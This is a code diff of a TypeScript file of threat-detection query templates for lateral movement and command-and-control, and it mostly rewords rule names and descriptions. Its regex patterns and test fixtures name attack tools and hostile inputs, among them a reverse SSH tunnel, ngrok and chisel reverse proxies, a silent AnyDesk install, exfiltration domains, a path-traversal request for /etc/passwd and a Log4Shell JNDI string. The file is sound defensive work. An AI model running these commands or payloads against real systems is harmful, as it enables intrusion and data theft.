@@ -1,17 +1,17 @@
-import type { Template } from './template.ts';
+import type { QueryTemplate } from './template.ts';
 
-/** Lateral movement, command and control. */
-export const movement: readonly Template[] = [
+/** Lateral movement, and command and control. */
+export const movement: readonly QueryTemplate[] = [
   {
     id: 'remote-execution-tool',
     techniques: ['T1021.002', 'T1021.006', 'T1021', 'T1570', 'T1021.003', 'T1563.002', 'T1072'],
-    name: 'Command run on another host, or a file put there',
+    name: 'Command run on another host, or file copied there',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`\b(psexec|paexec|wmiexec|smbexec|atexec|dcomexec|evil-winrm|winexe)\b|\bwinrs(\.exe)?"?\s+[-/]r|invoke-command\s.*-computername|enter-pssession|(copy|xcopy|robocopy|move)\s.*\\\\\S+\\(admin|c|ipc)\$|net1?(\.exe)?"?\s+use\s+\\\\\S+\\(admin|c|ipc)\$`,
     },
-    benign: 'administrators and software deployment from their own hosts',
+    benign: 'administrators and software deployment on their own hosts',
     match: [
       'copy a.exe \\\\FS-01\\C$\\Windows\\Temp\\a.exe',
       'winrs -r:FS-01 cmd',
@@ -22,21 +22,21 @@ export const movement: readonly Template[] = [
   {
     id: 'remote-desktop',
     techniques: ['T1021.001', 'T1021', 'T1133', 'T1563.002'],
-    name: 'Remote desktop to an address new to the client',
+    name: 'Remote desktop connection to a new address for the client',
     kind: 'network',
     needs: ['target', 'client'],
     category: 'first_occurrence',
     severity: 'low',
     where: { port: String.raw`^3389$` },
     having: (sql) => ({ columns: `${sql('target')} AS target`, condition: 'true' }),
-    benign: 'help desk and administrators, from their own network',
+    benign: 'help desk and administrators in their own network',
     match: [{ client: 'MATCH', target: '10.0.0.10', port: 3389 }],
     noMatch: [{ client: 'QUIET', target: '10.0.0.10', port: 443 }],
   },
   {
     id: 'remote-services-fan-out',
     techniques: ['T1021.002', 'T1021.004', 'T1021.006', 'T1021', 'T1210', 'T1570'],
-    name: 'One address reaches file sharing, SSH or WinRM of many hosts',
+    name: 'One address connects to file sharing, SSH, or WinRM on many hosts',
     kind: 'network',
     needs: ['target', 'client'],
     severity: 'high',
@@ -45,25 +45,25 @@ export const movement: readonly Template[] = [
       columns: `count(DISTINCT ${sql('target')}) AS count`,
       condition: `count(DISTINCT ${sql('target')}) >= 20`,
     }),
-    benign: 'domain controllers, deployment and scanners; make an exception for them',
+    benign: 'domain controllers, software deployment, and scanners; create exceptions for them',
     match: Array.from({ length: 20 }, (_, n) => ({ client: 'MATCH', target: `10.0.1.${n}`, port: 445 })),
     noMatch: Array.from({ length: 20 }, () => ({ client: 'QUIET', target: '10.0.1.1', port: 445 })),
   },
   {
     id: 'unusual-port',
     techniques: ['T1571', 'T1095', 'T1090'],
-    name: 'Connection to a port that remote control tools favour',
+    name: 'Connection to a port common for remote control tools',
     kind: 'network',
     severity: 'medium',
     where: { port: String.raw`^(1337|4444|4445|5555|6666|6667|8531|9001|9030|31337|50050)$` },
-    benign: 'development servers and printers; the other side is then inside',
+    benign: 'development servers and printers with an internal destination',
     match: [{ client: 'MATCH', host: 'MATCH', target: '203.0.113.7', port: 4444 }],
     noMatch: [{ client: 'QUIET', host: 'QUIET', target: '203.0.113.7', port: 443 }],
   },
   {
     id: 'tool-download',
     techniques: ['T1105', 'T1071.001', 'T1071', 'T1608.001'],
-    name: 'Program fetched from the command line into a user folder',
+    name: 'Program downloaded from the command line to a user folder',
     kind: 'process',
     severity: 'medium',
     where: {
@@ -76,13 +76,13 @@ export const movement: readonly Template[] = [
   {
     id: 'tunnel',
     techniques: ['T1572', 'T1090', 'T1090.001', 'T1090.002', 'T1090.003', 'T1021.004'],
-    name: 'Tunnel or proxy to the outside started',
+    name: 'Tunnel or proxy to an external host started',
     kind: 'process',
     severity: 'high',
     where: {
       command: String.raw`\b(ngrok|chisel|ligolo|frpc|gost|revsocks|cloudflared|localtonet|bore|pgrok|iodine|dnscat2?)(\.exe)?\b|(ssh|plink)(\.exe)?"?\s.*\s-(r|nr|d|nd|fnr)\s*\S*\d{2,5}|netsh\s+interface\s+portproxy\s+add|socat\s.*tcp-listen`,
     },
-    benign: 'developers who show a local web page; cloudflared as an installed service',
+    benign: 'developers sharing a local web page, or cloudflared as an installed service',
     match: ['ngrok tcp 3389', 'ssh -N -R 2222:localhost:22 x@192.0.2.9', 'chisel client 192.0.2.9:8080 R:socks'],
     noMatch: ['ssh ada@build.example', 'netsh interface show interface'],
   },
@@ -96,7 +96,7 @@ export const movement: readonly Template[] = [
     where: {
       command: String.raw`\b(anydesk|teamviewer(_service)?|screenconnect|connectwise|rustdesk|atera(agent)?|splashtop|remoteutilities|rutserv|ammyy|supremo|dwagent|meshagent|netsupport|client32|tacticalrmm|simplehelp|fleetdeck|action1_agent|ultraviewer)\b`,
     },
-    benign: 'the product that the company itself uses; leave it out of the query',
+    benign: 'the product that the organization itself uses; exclude it from the query',
     match: ['C:\\Users\\Public\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --silent'],
     noMatch: ['mstsc.exe /v:server'],
   },
@@ -115,7 +115,7 @@ export const movement: readonly Template[] = [
       'T1041',
       'T1020',
     ],
-    name: 'Service for pastes, bots or file drops used for the first time',
+    name: 'Paste, bot, or file-sharing service used for the first time',
     kind: 'web',
     category: 'first_occurrence',
     severity: 'medium',
@@ -123,14 +123,14 @@ export const movement: readonly Template[] = [
       domain: String.raw`(^|\.)(pastebin\.com|paste\.ee|ghostbin\.\w+|hastebin\.com|api\.telegram\.org|discord(app)?\.com|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|mega\.(nz|co\.nz)|catbox\.moe|temp\.sh|webhook\.site|requestbin\.\w+|ngrok\.io|ngrok-free\.app|trycloudflare\.com|workers\.dev)$`,
     },
     having: (sql) => ({ columns: `${sql('domain')} AS domain`, condition: 'true' }),
-    benign: 'people who send a large file; servers and service accounts have no such need',
+    benign: 'users sending a large file; servers and service accounts have no need to',
     match: [{ user: 'MATCH', client: 'MATCH', domain: 'api.telegram.org' }],
     noMatch: [{ user: 'QUIET', client: 'QUIET', domain: 'intranet.example' }],
   },
   {
     id: 'dns-tunnel',
     techniques: ['T1071.004', 'T1572', 'T1048', 'T1048.003', 'T1132', 'T1568', 'T1568.002'],
-    name: 'Very many long names asked below one domain',
+    name: 'Many DNS queries for long names under one domain',
     kind: 'dns',
     severity: 'high',
     where: { query: String.raw`^[^.]{30,}\.|^([^.]+\.){5,}` },
@@ -138,7 +138,7 @@ export const movement: readonly Template[] = [
       columns: `count(DISTINCT ${sql('query')}) AS count`,
       condition: `count(DISTINCT ${sql('query')}) >= 50`,
     }),
-    benign: 'reputation look-ups of mail filters and antivirus, and content delivery',
+    benign: 'reputation lookups by mail filters and antivirus, and content delivery networks',
     match: Array.from({ length: 50 }, (_, n) => ({
       client: 'MATCH',
       host: 'MATCH',
@@ -149,13 +149,13 @@ export const movement: readonly Template[] = [
   {
     id: 'exploit-request',
     techniques: ['T1190', 'T1595.002', 'T1595', 'T1505.003', 'T1210', 'T1211', 'T1068', 'T1203'],
-    name: 'Request that tries to break into a web application',
+    name: 'Request that tries to exploit a web application',
     kind: 'webServer',
     severity: 'medium',
     where: {
       path: String.raw`(\.\./|%2e%2e(/|%2f)){2,}|\$\{(jndi|lower|upper|env):|%24%7bjndi|union(\s|\+|%20)+(all(\s|\+|%20)+)?select|/etc/passwd|cmd\.exe|powershell|\bwhoami\b|<script|%3cscript|/(wp-content|uploads|images)/[^?]*\.(php|aspx?|jsp)\b|;(\s|\+|%20)*(wget|curl)(\s|\+|%20)`,
     },
-    benign: 'scanners of the internet, which hit every site; a success (status 200, a large answer) is what counts',
+    benign: 'internet scanners, which hit every site; only a success matters (status 200, a large response)',
     match: ['/cgi-bin/../../../../etc/passwd', '/?x=${jndi:ldap://192.0.2.9/a}'],
     noMatch: ['/products/list?page=2', '/static/app.js'],
   },
